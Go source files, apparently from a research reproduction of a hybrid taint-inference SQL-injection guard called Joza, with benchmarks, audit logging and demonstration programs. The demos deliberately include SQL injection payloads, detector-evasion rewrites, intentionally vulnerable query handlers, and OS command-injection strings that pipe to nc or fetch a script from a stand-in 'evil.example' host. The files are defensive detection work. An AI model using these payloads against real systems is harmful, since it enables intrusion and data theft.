			q := queries[i&63]
			i++
			if guard.Check(q, nil).Attack {
				b.Fatal("benign flagged")
			}
		}
	})
}

func BenchmarkLex(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sqltoken.Lex(benchQuery)
	}
}

func BenchmarkParse(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := sqlparse.Parse(benchQuery); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkStructureKey(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sqlparse.StructureKey(benchQuery)
	}
}

func BenchmarkLevenshtein(b *testing.B) {
	for i := 0; i < b.N; i++ {
		strdist.Levenshtein("-1 OR 1=1", "-1 OR 1=1 /*''''*/")
	}
}

func BenchmarkMinidbExec(b *testing.B) {
	db := minidb.New("bench")
	db.MustExec("CREATE TABLE posts (id INT, title TEXT, body TEXT)")
	for i := 0; i < 100; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO posts VALUES (%d, 'post %d', 'body')", i, i))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := db.Exec("SELECT id, title FROM posts WHERE id=42"); err != nil {
			b.Fatal(err)
		}
	}
}
