package joza

import (
	"io"

	"joza/internal/audit"
)

// AuditRecord is one JSON line written to the audit log when a query is
// blocked: the query, which analyzers fired, the implicated tokens, the
// recovery policy and the input keys present at detection time (values
// are never logged — they may contain user PII beyond the attack
// payload). The same record shape is written by the in-process Guard and
// by the remote-deployment HybridClient.
type AuditRecord = audit.Record

// WithAuditLog makes the Guard write one JSON line per blocked query to w.
// Writes are serialized; w need not be safe for concurrent use.
func WithAuditLog(w io.Writer) Option {
	return func(c *config) { c.auditWriter = w }
}

// WithAsyncAuditLog is WithAuditLog with the write moved off the check
// path: records are handed to a background writer through a bounded queue
// of the given depth (<= 0 selects a default), so a slow or wedged sink
// never stalls a check. When the queue is full, records are dropped and
// counted rather than blocking. Call Guard.Close on shutdown to flush
// buffered records to w.
func WithAsyncAuditLog(w io.Writer, depth int) Option {
	return func(c *config) {
		c.auditWriter = w
		c.auditAsync = true
		c.auditDepth = depth
	}
}
