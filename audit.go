package joza

import (
	"encoding/json"
	"io"
	"sync"
	"time"
)

// AuditRecord is one JSON line written to the audit log when a query is
// blocked. It captures what an operator needs to triage the event without
// replaying it: the query, which analyzers fired, and the implicated
// tokens.
type AuditRecord struct {
	// Time is the detection time in RFC 3339 with millisecond precision.
	Time string `json:"time"`
	// Query is the blocked statement.
	Query string `json:"query"`
	// DetectedBy lists the analyzers that fired ("NTI", "PTI").
	DetectedBy []string `json:"detectedBy"`
	// Reasons are human-readable explanations (token + why).
	Reasons []string `json:"reasons"`
	// Policy is the recovery policy applied.
	Policy string `json:"policy"`
	// InputKeys names the request inputs present at detection time
	// ("source:name"); values are deliberately not logged — they may
	// contain user PII beyond the attack payload.
	InputKeys []string `json:"inputKeys,omitempty"`
}

// auditLogger serializes writes of audit records to a writer.
type auditLogger struct {
	mu  sync.Mutex
	w   io.Writer
	now func() time.Time
}

func newAuditLogger(w io.Writer) *auditLogger {
	return &auditLogger{w: w, now: time.Now}
}

// log writes one record; failures are swallowed (auditing must never take
// the application down), but the write is attempted exactly once.
func (a *auditLogger) log(v Verdict, policy Policy, inputs []Input) {
	rec := AuditRecord{
		Time:       a.now().UTC().Format("2006-01-02T15:04:05.000Z07:00"),
		Query:      v.Query,
		DetectedBy: v.DetectedBy(),
		Policy:     policy.String(),
		// Marshal absent slices as [] rather than null so JSON-lines
		// consumers can always index into arrays.
		Reasons: []string{},
	}
	if rec.DetectedBy == nil {
		rec.DetectedBy = []string{}
	}
	for _, r := range v.Reasons() {
		rec.Reasons = append(rec.Reasons, r.String())
	}
	for _, in := range inputs {
		rec.InputKeys = append(rec.InputKeys, in.Key())
	}
	data, err := json.Marshal(rec)
	if err != nil {
		return
	}
	data = append(data, '\n')
	a.mu.Lock()
	defer a.mu.Unlock()
	_, _ = a.w.Write(data)
}

// WithAuditLog makes the Guard write one JSON line per blocked query to w.
// Writes are serialized; w need not be safe for concurrent use.
func WithAuditLog(w io.Writer) Option {
	return func(c *config) { c.auditWriter = w }
}
