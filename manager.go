package joza

import (
	"fmt"
	"sync/atomic"

	"joza/internal/installer"
)

// Manager couples a Guard to the application's source tree: the initial
// installation extracts the trusted fragments, and Refresh re-extracts
// only changed files — picking up application updates and newly installed
// plugins, per the paper's preprocessing component — and atomically swaps
// in a rebuilt Guard. Callers take the current Guard per request via
// Guard(); in-flight requests keep the Guard they started with.
type Manager struct {
	ins   *installer.Installer
	opts  []Option
	guard atomic.Pointer[Guard]
}

// NewManager installs over dir (extracting from files with the given
// extensions; none means ".php") and builds the initial Guard with opts.
// Do not pass WithFragments/WithFragmentSet in opts; the Manager supplies
// the fragment set.
func NewManager(dir string, exts []string, opts ...Option) (*Manager, error) {
	var insOpts []installer.Option
	if len(exts) > 0 {
		insOpts = append(insOpts, installer.WithExtensions(exts...))
	}
	ins, err := installer.New(dir, insOpts...)
	if err != nil {
		return nil, fmt.Errorf("joza: install: %w", err)
	}
	m := &Manager{ins: ins, opts: opts}
	if err := m.rebuild(); err != nil {
		return nil, err
	}
	return m, nil
}

// Guard returns the current Guard.
func (m *Manager) Guard() *Guard { return m.guard.Load() }

// FileCount returns the number of tracked source files.
func (m *Manager) FileCount() int { return m.ins.FileCount() }

// Refresh rescans the source tree; when files were added, modified or
// removed it rebuilds and swaps the Guard. It reports whether a swap
// happened.
func (m *Manager) Refresh() (bool, error) {
	changed, err := m.ins.Refresh()
	if err != nil {
		return false, fmt.Errorf("joza: refresh: %w", err)
	}
	if !changed {
		return false, nil
	}
	if err := m.rebuild(); err != nil {
		return false, err
	}
	return true, nil
}

func (m *Manager) rebuild() error {
	opts := append([]Option{WithFragmentSet(m.ins.Set())}, m.opts...)
	g, err := New(opts...)
	if err != nil {
		return fmt.Errorf("joza: rebuild guard: %w", err)
	}
	m.guard.Store(g)
	return nil
}
