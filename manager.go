package joza

import (
	"fmt"
	"sync"
	"sync/atomic"

	"joza/internal/installer"
)

// Manager couples a Guard to the application's source tree: the initial
// installation extracts the trusted fragments, and Refresh re-extracts
// only changed files — picking up application updates and newly installed
// plugins, per the paper's preprocessing component — and atomically swaps
// a rebuilt analysis snapshot into the Guard's engine. The hot path never
// takes a lock: a check loads the snapshot once, and in-flight checks
// finish on the snapshot they started with.
//
// Metrics counters, the tracer and the observability listener belong to
// the engine and survive fragment-set swaps. Guard() returns a fresh
// Guard handle after each successful Refresh (the handles share the one
// engine), so callers can detect swaps by pointer comparison.
type Manager struct {
	ins   *installer.Installer
	guard atomic.Pointer[Guard]

	// mu serializes Refresh; pending records that the source tree changed
	// but the rebuild failed, so the next Refresh retries instead of
	// leaving the old snapshot serving stale fragments forever.
	mu      sync.Mutex
	pending bool
}

// NewManager installs over dir (extracting from files with the given
// extensions; none means ".php") and builds the initial Guard with opts.
// Do not pass WithFragments/WithFragmentSet in opts; the Manager supplies
// the fragment set.
func NewManager(dir string, exts []string, opts ...Option) (*Manager, error) {
	var insOpts []installer.Option
	if len(exts) > 0 {
		insOpts = append(insOpts, installer.WithExtensions(exts...))
	}
	ins, err := installer.New(dir, insOpts...)
	if err != nil {
		return nil, fmt.Errorf("joza: install: %w", err)
	}
	g, err := New(append([]Option{WithFragmentSet(ins.Set())}, opts...)...)
	if err != nil {
		return nil, fmt.Errorf("joza: rebuild guard: %w", err)
	}
	m := &Manager{ins: ins}
	m.guard.Store(g)
	return m, nil
}

// Guard returns the current Guard.
func (m *Manager) Guard() *Guard { return m.guard.Load() }

// FileCount returns the number of tracked source files.
func (m *Manager) FileCount() int { return m.ins.FileCount() }

// Metrics returns the current metrics snapshot. Check counters are shared
// across rebuilds; cache and matcher counters reflect the current
// snapshot's analyzers.
func (m *Manager) Metrics() Metrics { return m.Guard().Metrics() }

// SnapshotVersion returns the content-derived version of the analysis
// snapshot currently serving checks (it changes on every Refresh that
// swaps in new content). See Guard.SnapshotVersion.
func (m *Manager) SnapshotVersion() string { return m.Guard().SnapshotVersion() }

// Refresh rescans the source tree; when files were added, modified or
// removed — or an earlier rebuild failed and is still owed — it rebuilds
// the analysis snapshot and swaps it into the engine. It reports whether
// a swap happened.
//
// A failed rebuild keeps the change pending: the old snapshot stays in
// service (fail-open on stale fragments rather than taking the
// application down), and every subsequent Refresh retries the rebuild
// until it succeeds, even if the source tree does not change again.
func (m *Manager) Refresh() (bool, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	changed, err := m.ins.Refresh()
	if err != nil {
		return false, fmt.Errorf("joza: refresh: %w", err)
	}
	if !changed && !m.pending {
		return false, nil
	}
	m.pending = true
	g := m.guard.Load()
	if err := g.swapFragmentSet(m.ins.Set()); err != nil {
		return false, fmt.Errorf("joza: rebuild guard: %w", err)
	}
	// Publish a fresh handle over the same engine so callers comparing
	// Guard pointers observe the swap.
	fresh := *g
	m.guard.Store(&fresh)
	m.pending = false
	return true, nil
}
