package joza

import (
	"fmt"
	"sync"
	"sync/atomic"

	"joza/internal/installer"
	"joza/internal/metrics"
)

// Manager couples a Guard to the application's source tree: the initial
// installation extracts the trusted fragments, and Refresh re-extracts
// only changed files — picking up application updates and newly installed
// plugins, per the paper's preprocessing component — and atomically swaps
// in a rebuilt Guard. Callers take the current Guard per request via
// Guard(); in-flight requests keep the Guard they started with.
//
// All rebuilt Guards share one metrics collector, so Manager.Metrics()
// counters survive fragment-set swaps.
type Manager struct {
	ins       *installer.Installer
	opts      []Option
	collector *metrics.Collector
	guard     atomic.Pointer[Guard]

	// mu serializes Refresh; pending records that the source tree changed
	// but the rebuild failed, so the next Refresh retries instead of
	// leaving the old Guard serving stale fragments forever.
	mu      sync.Mutex
	pending bool
}

// NewManager installs over dir (extracting from files with the given
// extensions; none means ".php") and builds the initial Guard with opts.
// Do not pass WithFragments/WithFragmentSet in opts; the Manager supplies
// the fragment set.
func NewManager(dir string, exts []string, opts ...Option) (*Manager, error) {
	var insOpts []installer.Option
	if len(exts) > 0 {
		insOpts = append(insOpts, installer.WithExtensions(exts...))
	}
	ins, err := installer.New(dir, insOpts...)
	if err != nil {
		return nil, fmt.Errorf("joza: install: %w", err)
	}
	m := &Manager{ins: ins, opts: opts, collector: metrics.NewCollector()}
	if err := m.rebuild(); err != nil {
		return nil, err
	}
	return m, nil
}

// Guard returns the current Guard.
func (m *Manager) Guard() *Guard { return m.guard.Load() }

// FileCount returns the number of tracked source files.
func (m *Manager) FileCount() int { return m.ins.FileCount() }

// Metrics returns the current metrics snapshot. Check counters are shared
// across rebuilds; cache and matcher counters reflect the current Guard's
// analyzers.
func (m *Manager) Metrics() Metrics { return m.Guard().Metrics() }

// Refresh rescans the source tree; when files were added, modified or
// removed — or an earlier rebuild failed and is still owed — it rebuilds
// and swaps the Guard. It reports whether a swap happened.
//
// A failed rebuild keeps the change pending: the old Guard stays in
// service (fail-open on stale fragments rather than taking the
// application down), and every subsequent Refresh retries the rebuild
// until it succeeds, even if the source tree does not change again.
func (m *Manager) Refresh() (bool, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	changed, err := m.ins.Refresh()
	if err != nil {
		return false, fmt.Errorf("joza: refresh: %w", err)
	}
	if !changed && !m.pending {
		return false, nil
	}
	m.pending = true
	if err := m.rebuild(); err != nil {
		return false, err
	}
	m.pending = false
	return true, nil
}

func (m *Manager) rebuild() error {
	opts := append([]Option{WithFragmentSet(m.ins.Set()), withCollector(m.collector)}, m.opts...)
	g, err := New(opts...)
	if err != nil {
		return fmt.Errorf("joza: rebuild guard: %w", err)
	}
	m.guard.Store(g)
	return nil
}
