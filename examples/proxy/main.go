// The proxy example deploys Joza as a network database proxy — the natural
// Go-era deployment of the paper's architecture. A minidb server holds the
// data; the Joza proxy fronts it; the "application" talks to the proxy
// with the same wire client it would use against the raw database,
// attaching its raw HTTP inputs so NTI can correlate them.
package main

import (
	"errors"
	"fmt"
	"log"
	"net"

	"joza"
	"joza/internal/minidb"
	"joza/internal/proxy"
)

const appSource = `<?php
$q = 'SELECT id, name, balance FROM accounts WHERE id=';
`

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// Backend database.
	db := minidb.New("bank")
	db.MustExec("CREATE TABLE accounts (id INT, name TEXT, balance INT)")
	db.MustExec("INSERT INTO accounts VALUES (1, 'alice', 1200), (2, 'bob', 7700)")
	upstreamLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	upstream := minidb.NewServer(db)
	go func() { _ = upstream.Serve(upstreamLn) }()
	defer upstream.Close()

	// Joza proxy in front of it.
	guard, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(appSource)))
	if err != nil {
		return err
	}
	backend := proxy.NewRemoteBackend(upstreamLn.Addr().String())
	defer backend.Close()
	p := proxy.New(guard, backend)
	proxyLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	go func() { _ = p.Serve(proxyLn) }()
	defer p.Close()

	// The application connects to the proxy instead of the database.
	client, err := minidb.Dial(proxyLn.Addr().String())
	if err != nil {
		return err
	}
	defer client.Close()

	query := func(id string) {
		q := "SELECT id, name, balance FROM accounts WHERE id=" + id
		res, err := client.QueryWithInputs(q, []minidb.WireInput{
			{Source: "get", Name: "account", Value: id},
		})
		switch {
		case errors.Is(err, minidb.ErrBlocked):
			fmt.Printf("input %-12q -> BLOCKED by the proxy\n", id)
		case err != nil:
			fmt.Printf("input %-12q -> error: %v\n", id, err)
		default:
			fmt.Printf("input %-12q -> %d row(s)\n", id, len(res.Rows))
		}
	}

	query("1")        // benign
	query("0 OR 1=1") // tautology: would dump every account
	query("2")        // benign again; the proxy keeps serving

	blocked, passed := p.Stats()
	fmt.Printf("\nproxy stats: %d blocked, %d passed\n", blocked, passed)
	return nil
}
