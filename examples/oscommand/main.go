// The oscommand example applies the hybrid taint-inference model to OS
// command injection — the attack class positive taint inference was
// originally built for. A "network diagnostics" endpoint builds a shell
// command from user input; the oscmd guard blocks every injection form
// while letting benign lookups through.
package main

import (
	"fmt"
	"log"
	"strings"

	"joza/internal/nti"
	"joza/internal/oscmd"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// The program's command-building fragments (what PTI trusts).
	guard := oscmd.New([]string{
		"nslookup ",
		"ping -c 3 ",
		"-timeout=2 ",
	})
	fmt.Printf("trusted command fragments: %d\n\n", guard.FragmentCount())

	cases := []struct {
		label string
		host  string
	}{
		{"benign lookup", "example.com"},
		{"separator injection", "example.com; cat /etc/passwd"},
		{"pipe exfiltration", "example.com | nc evil.example 4444"},
		{"command substitution", "$(wget http://evil.example/x.sh -O- | sh)"},
		{"backtick substitution", "`id`"},
		{"background chain", "example.com & rm -rf /tmp/cache"},
	}
	for _, c := range cases {
		cmd := "nslookup -timeout=2 " + c.host
		v := guard.Check(cmd, []nti.Input{{Source: "get", Name: "host", Value: c.host}})
		fmt.Printf("=== %s ===\n", c.label)
		fmt.Printf("command: %q\n", cmd)
		if v.Attack {
			fmt.Printf("BLOCKED (detected by %s)\n", strings.Join(v.DetectedBy(), " and "))
			for _, r := range v.Reasons() {
				fmt.Printf("  - %s\n", r)
			}
		} else {
			fmt.Println("allowed")
		}
		fmt.Println()
	}

	// Second-order: the payload came from storage, not this request.
	v := guard.Check("nslookup -timeout=2 example.com; curl evil.example",
		[]nti.Input{{Source: "get", Name: "page", Value: "diagnostics"}})
	fmt.Printf("second-order command (inputs unrelated): NTI=%v PTI=%v hybrid=%v\n",
		v.NTI.Attack, v.PTI.Attack, v.Attack)
	if !v.Attack {
		return fmt.Errorf("second-order command injection missed")
	}
	return nil
}
