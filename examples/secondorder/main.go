// The secondorder example demonstrates PTI's input-independence (Section
// III-B): attacks whose payload does not come from the current request —
// a stored (second-order) injection replayed from the database, and a
// payload assembled from multiple harmless-looking inputs — defeat any
// input-correlation defense (NTI), but PTI flags them because the critical
// tokens do not originate from the program's own string fragments.
package main

import (
	"fmt"
	"log"
	"strings"

	"joza"
	"joza/internal/minidb"
)

const appSource = `<?php
$q1 = 'INSERT INTO profiles (id, nickname) VALUES (';
$q1b = ', \'';
$q1c = '\')';
$q2 = 'SELECT id, nickname FROM profiles WHERE nickname=\'';
$q2b = '\'';
$q3 = 'SELECT * FROM data WHERE ID=';
`

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	db := minidb.New("app")
	db.MustExec("CREATE TABLE profiles (id INT, nickname TEXT)")
	db.MustExec("CREATE TABLE data (id INT, payload TEXT)")
	db.MustExec("INSERT INTO data VALUES (1, 'alpha'), (2, 'beta')")

	guard, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(appSource)))
	if err != nil {
		return err
	}

	fmt.Println("=== second-order injection ===")
	// Request 1: the attacker stores a payload. It is inert here (it sits
	// inside a string literal), so storing it is legitimately allowed.
	stored := "x' OR 1=1 -- "
	insert := "INSERT INTO profiles (id, nickname) VALUES (7, '" + escape(stored) + "')"
	if err := guard.Authorize(insert, []joza.Input{
		{Source: "post", Name: "nickname", Value: stored},
	}); err != nil {
		return fmt.Errorf("storing the (inert) payload should be allowed: %w", err)
	}
	if _, err := db.Exec(insert); err != nil {
		return err
	}
	fmt.Printf("request 1: stored nickname %q (allowed — payload is data here)\n", stored)

	// Request 2 (much later): the application reads the nickname back and
	// uses it unescaped. This request's inputs are unrelated to the
	// payload, so NTI is blind — but PTI catches it.
	row, err := db.Exec("SELECT nickname FROM profiles WHERE id=7")
	if err != nil {
		return err
	}
	nickname, _ := row.Rows[0][0].(string)
	vulnerable := "SELECT id, nickname FROM profiles WHERE nickname='" + nickname + "'"
	verdict := guard.Check(vulnerable, []joza.Input{
		{Source: "get", Name: "page", Value: "profile"},
	})
	fmt.Printf("request 2: query %q\n", vulnerable)
	fmt.Printf("  NTI detected: %v (inputs unrelated to payload)\n", verdict.NTI.Attack)
	fmt.Printf("  PTI detected: %v (OR / -- not program fragments)\n", verdict.PTI.Attack)
	fmt.Printf("  hybrid: attack=%v\n\n", verdict.Attack)
	if !verdict.Attack || verdict.NTI.Attack {
		return fmt.Errorf("unexpected second-order verdict: %+v", verdict.DetectedBy())
	}

	fmt.Println("=== payload construction from multiple inputs ===")
	// Section III-A: three innocuous inputs concatenate into an attack.
	// NTI cannot combine markings from different inputs; PTI flags the
	// assembled critical tokens.
	q1, q2, q3 := "1 OR 1=1", "R TR", "UE"
	_ = q1
	assembled := "SELECT * FROM data WHERE ID=1 OR TRUE"
	verdict = guard.Check(assembled, []joza.Input{
		{Source: "get", Name: "q1", Value: "1 OR 1=1"},
		{Source: "get", Name: "q2", Value: q2},
		{Source: "get", Name: "q3", Value: q3},
	})
	fmt.Printf("query: %q\n", assembled)
	fmt.Printf("  NTI detected: %v\n", verdict.NTI.Attack)
	fmt.Printf("  PTI detected: %v\n", verdict.PTI.Attack)
	fmt.Printf("  hybrid: attack=%v\n", verdict.Attack)
	if !verdict.Attack {
		return fmt.Errorf("payload-construction attack missed")
	}
	fmt.Println("\nboth input-independent attacks blocked by the hybrid")
	return nil
}

// escape models the application's addslashes-on-store behaviour.
func escape(s string) string {
	return strings.ReplaceAll(s, "'", `\'`)
}
