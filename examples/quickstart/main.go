// The quickstart example shows the core Joza workflow in one file: extract
// trusted fragments from application source, build a hybrid guard, and
// check benign and malicious queries. It also renders the paper's
// figure-style taint markings (− negative taint, + positive taint,
// c critical token).
package main

import (
	"fmt"
	"log"
	"strings"

	"joza"
)

// appSource is the vulnerable PHP program from Section III-B of the paper.
const appSource = `<?php
$postid = $_GET['id'];
$query = "SELECT * FROM records WHERE ID=$postid LIMIT 5";
$result = mysql_query($query);
`

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// 1. Install: extract trusted string fragments from the application.
	fragments := joza.FragmentsFromSource(appSource)
	fmt.Printf("extracted fragments: %q\n\n", fragments)

	// 2. Build the hybrid guard.
	guard, err := joza.New(joza.WithFragments(fragments))
	if err != nil {
		return err
	}

	// 3. Check queries as the application would issue them.
	cases := []struct {
		label string
		input string
	}{
		{"benign", "5"},
		{"tautology (Figure 2B)", "-1 OR 1=1"},
		{"union attack (Figure 3B)", "-1 UNION SELECT username()"},
	}
	for _, c := range cases {
		query := "SELECT * FROM records WHERE ID=" + c.input + " LIMIT 5"
		inputs := []joza.Input{{Source: "get", Name: "id", Value: c.input}}
		verdict := guard.Check(query, inputs)

		fmt.Printf("=== %s ===\n", c.label)
		fmt.Print(joza.RenderVerdict(verdict))
		if verdict.Attack {
			fmt.Printf("BLOCKED (detected by %s)\n", strings.Join(verdict.DetectedBy(), " and "))
			for _, r := range verdict.Reasons() {
				fmt.Printf("  - %s\n", r)
			}
		} else {
			fmt.Println("allowed")
		}
		fmt.Println()
	}

	// 4. Authorize integrates with error handling and recovery policies.
	err = guard.Authorize("SELECT * FROM records WHERE ID=1 OR 1=1 LIMIT 5", nil)
	fmt.Printf("Authorize on a stored (second-order) attack: %v\n", err)
	return nil
}
