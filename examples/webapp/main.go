// The webapp example runs the full application stack: a WordPress-like
// mini framework with magic quotes, a vulnerable plugin, an in-memory SQL
// database, and Joza installed as the query gate. It demonstrates the
// complementary hybrid in action — an attack mutated to evade NTI (quote
// stuffing against magic quotes) is caught by PTI, and a payload rebuilt
// from the application's own vocabulary (evading PTI) is caught by NTI.
package main

import (
	"fmt"
	"log"
	"strings"

	"joza"
	"joza/internal/evasion"
	"joza/internal/fragments"
	"joza/internal/minidb"
	"joza/internal/webapp"
)

const pluginSource = `<?php
/* Plugin: gallery-search */
$id = $_GET['id'];
$q = 'SELECT id, title FROM photos WHERE album=' . $id . ' LIMIT 10';
$res = mysql_query($q);
/* dynamic filter vocabulary */
$or = ' or ';
$eq = '=';
`

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	db := minidb.New("gallery")
	db.MustExec("CREATE TABLE photos (id INT, album INT, title TEXT)")
	db.MustExec("INSERT INTO photos VALUES (1, 1, 'sunrise'), (2, 1, 'beach'), (3, 2, 'secret-draft')")

	plugin := &webapp.Plugin{
		Name:   "gallery-search",
		Source: pluginSource,
		Handle: func(c *webapp.Ctx) (string, error) {
			res, err := c.Query("SELECT id, title FROM photos WHERE album=" + c.Get("id") + " LIMIT 10")
			if err != nil {
				return "", err
			}
			return webapp.RenderRows(res), nil
		},
	}

	// Unprotected app to demonstrate the attacks actually work.
	plain := webapp.NewApp(db, webapp.WithTransforms(webapp.TrimWhitespace, webapp.MagicQuotes))
	plain.Install(plugin)

	// Protected app: fragments extracted from the installed sources.
	guard, err := joza.New(joza.WithFragments(plain.FragmentTexts()))
	if err != nil {
		return err
	}
	protected := webapp.NewApp(db,
		webapp.WithTransforms(webapp.TrimWhitespace, webapp.MagicQuotes),
		webapp.WithGuard(guard))
	protected.Install(plugin)

	show := func(label, payload string) error {
		req := &webapp.Request{Get: map[string]string{"id": payload}}
		unsafe, err := plain.Handle("gallery-search", req)
		if err != nil {
			return err
		}
		safe, err := protected.Handle("gallery-search", req)
		if err != nil {
			return err
		}
		fmt.Printf("=== %s ===\n", label)
		fmt.Printf("payload:     %q\n", payload)
		fmt.Printf("unprotected: %d rows%s\n", unsafe.Rows, leakNote(unsafe))
		if safe.Blocked {
			fmt.Println("protected:   BLOCKED (blank page, terminate policy)")
		} else {
			fmt.Printf("protected:   %d rows\n", safe.Rows)
		}
		fmt.Println()
		return nil
	}

	if err := show("benign request", "1"); err != nil {
		return err
	}
	if err := show("tautology exploit", "-1 OR 1=1"); err != nil {
		return err
	}

	// NTI evasion: quote stuffing rides on the app's magic quotes.
	stuffed := evasion.QuoteStuffing("-1 OR 1=1", 0.20)
	if err := show("NTI-evading exploit (quote stuffing)", stuffed); err != nil {
		return err
	}

	// PTI evasion: Taintless rebuilds the payload from the app vocabulary.
	set := fragments.NewSet(plain.FragmentTexts())
	tl := evasion.NewTaintless(set)
	rebuilt, ok := tl.Evade("1 OR 1=1")
	fmt.Printf("Taintless rewrite succeeded: %v\n\n", ok)
	if err := show("PTI-evading exploit (Taintless)", rebuilt); err != nil {
		return err
	}

	fmt.Println("every working exploit form was blocked by the hybrid")
	return nil
}

func leakNote(p *webapp.Page) string {
	if strings.Contains(p.Body, "secret-draft") {
		return " (LEAKED the other album's photo!)"
	}
	return ""
}
