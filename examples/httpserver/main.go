// The httpserver example wires Joza into a real net/http application: a
// middleware captures the raw request inputs at entry (Joza's
// preprocessing step), handlers build queries the vulnerable way, and the
// Joza-wrapped query helper gates every statement. The example starts the
// server, drives benign and malicious requests against it over HTTP, and
// prints the outcomes.
package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"strings"
	"time"

	"joza"
	"joza/internal/minidb"
)

const appSource = `<?php
$q1 = 'SELECT id, title FROM articles WHERE id=';
$q2 = 'SELECT id, title FROM articles WHERE title LIKE \'%';
$q2b = '%\' LIMIT 10';
`

// server bundles the database and the guard behind HTTP handlers.
type server struct {
	db    *minidb.DB
	guard *joza.Guard
}

type ctxKey struct{}

// captureInputs is the preprocessing middleware: it snapshots every raw
// input of the request before any handler code can transform it.
func captureInputs(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var inputs []joza.Input
		if err := r.ParseForm(); err == nil {
			for name, values := range r.Form {
				for _, v := range values {
					inputs = append(inputs, joza.Input{Source: "get", Name: name, Value: v})
				}
			}
		}
		for _, c := range r.Cookies() {
			inputs = append(inputs, joza.Input{Source: "cookie", Name: c.Name, Value: c.Value})
		}
		ctx := context.WithValue(r.Context(), ctxKey{}, inputs)
		next.ServeHTTP(w, r.WithContext(ctx))
	})
}

func requestInputs(r *http.Request) []joza.Input {
	inputs, _ := r.Context().Value(ctxKey{}).([]joza.Input)
	return inputs
}

// query is the Joza-wrapped database call.
func (s *server) query(r *http.Request, q string) (*minidb.Result, error) {
	if err := s.guard.Authorize(q, requestInputs(r)); err != nil {
		return nil, err
	}
	return s.db.Exec(q)
}

func (s *server) handleArticle(w http.ResponseWriter, r *http.Request) {
	// Deliberately vulnerable: raw input concatenation.
	q := "SELECT id, title FROM articles WHERE id=" + r.URL.Query().Get("id")
	s.respond(w, r, q)
}

func (s *server) handleSearch(w http.ResponseWriter, r *http.Request) {
	q := "SELECT id, title FROM articles WHERE title LIKE '%" + r.URL.Query().Get("q") + "%' LIMIT 10"
	s.respond(w, r, q)
}

func (s *server) respond(w http.ResponseWriter, r *http.Request, q string) {
	res, err := s.query(r, q)
	var attack *joza.AttackError
	switch {
	case errors.As(err, &attack):
		// Termination policy: blank page, 403.
		w.WriteHeader(http.StatusForbidden)
	case err != nil:
		http.Error(w, "database error", http.StatusInternalServerError)
	default:
		for _, row := range res.Rows {
			fmt.Fprintf(w, "%v | %v\n", row[0], row[1])
		}
	}
}

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	db := minidb.New("news")
	db.MustExec("CREATE TABLE articles (id INT, title TEXT)")
	db.MustExec("INSERT INTO articles VALUES (1, 'Go 1.22 released'), (2, 'Joza reproduced'), (3, 'Internal memo (secret)')")

	var audit bytes.Buffer
	guard, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(appSource)),
		joza.WithAuditLog(&audit),
	)
	if err != nil {
		return err
	}
	s := &server{db: db, guard: guard}

	mux := http.NewServeMux()
	mux.HandleFunc("/article", s.handleArticle)
	mux.HandleFunc("/search", s.handleSearch)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	httpSrv := &http.Server{Handler: captureInputs(mux), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = httpSrv.Serve(ln) }()
	defer func() { _ = httpSrv.Close() }()
	base := "http://" + ln.Addr().String()
	fmt.Printf("serving on %s\n\n", base)

	get := func(label, path string) error {
		resp, err := http.Get(base + path)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		fmt.Printf("GET %-52s -> %d, %d bytes\n", path, resp.StatusCode, len(body))
		if label == "attack" && resp.StatusCode != http.StatusForbidden {
			return fmt.Errorf("attack not blocked: %s", body)
		}
		if label == "benign" && resp.StatusCode != http.StatusOK {
			return fmt.Errorf("benign request failed: %s", body)
		}
		return nil
	}

	checks := []struct{ label, path string }{
		{"benign", "/article?id=1"},
		{"benign", "/search?q=Joza"},
		{"attack", "/article?id=0%20OR%201=1"},
		{"attack", "/article?id=-1%20UNION%20SELECT%20id,%20title%20FROM%20articles"},
		{"attack", "/search?q=%25%27%20OR%201=1%20--%20"},
	}
	for _, c := range checks {
		if err := get(c.label, c.path); err != nil {
			return err
		}
	}
	fmt.Println("\nall benign requests served, all attacks blocked with 403")
	fmt.Printf("\naudit log (%d entries):\n", strings.Count(audit.String(), "\n"))
	for _, line := range strings.Split(strings.TrimSpace(audit.String()), "\n") {
		if len(line) > 110 {
			line = line[:110] + "...\""
		}
		fmt.Println(" ", line)
	}
	return nil
}
