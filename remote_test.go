package joza_test

// End-to-end coverage of the root-package remote deployment surface: a
// jozad-style server, a pooled transport, and the RemoteGuard with its
// degradation policies — everything an application outside this module
// can reach.

import (
	"errors"
	"net"
	"strings"
	"testing"
	"time"

	"joza"
	"joza/internal/daemon"
	"joza/internal/fragments"
	"joza/internal/pti"
)

func startDaemon(t *testing.T) string {
	t.Helper()
	set := fragments.NewSet([]string{
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
	})
	analyzer := pti.NewCached(pti.New(set), pti.CacheQueryAndStructure, 128)
	srv := daemon.NewServer(analyzer)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
